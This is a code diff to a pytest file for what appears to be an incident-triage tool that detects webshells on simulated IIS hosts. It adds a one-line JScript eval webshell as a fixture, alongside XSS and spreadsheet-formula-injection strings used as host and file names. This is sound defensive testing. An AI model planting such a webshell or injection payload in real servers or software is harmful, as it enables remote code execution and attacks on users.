@@ -21,8 +21,10 @@ from triage.testing.fleet import BUILDS, build_fleet
 
 SCRIPT_NAME = "<script>alert(1)</script>"
 FORMULA_NAME = "-2+3"  # safe_host keeps the leading "-": a formula start
-ONLY = "webshell_locations,registry_hostinfo,registry_exchange"
+ONLY = "webshell_locations,webshell_heuristics,registry_hostinfo,registry_exchange"
 SHELL = "<img src=x onerror=alert(2)>.aspx"
+# a page that evaluates request input: the place alone is only suspicious, what the page does is compromise
+SHELL_PAGE = b"<%@ Page Language='JScript' %><% eval(Request.Item['z'], 'unsafe'); %>"
 
 
 @pytest.fixture(scope="module")
@@ -34,7 +36,7 @@ def hostile(tmp_path_factory):
         2,
         seed=5,
         names=[SCRIPT_NAME, FORMULA_NAME],
-        extra_files={SCRIPT_NAME: {f"inetpub/wwwroot/aspnet_client/{SHELL}": b"<%@ Page Language='C#' %>"}},
+        extra_files={SCRIPT_NAME: {f"inetpub/wwwroot/aspnet_client/{SHELL}": SHELL_PAGE}},
     )
     out = base / "out"
     buf = io.StringIO()
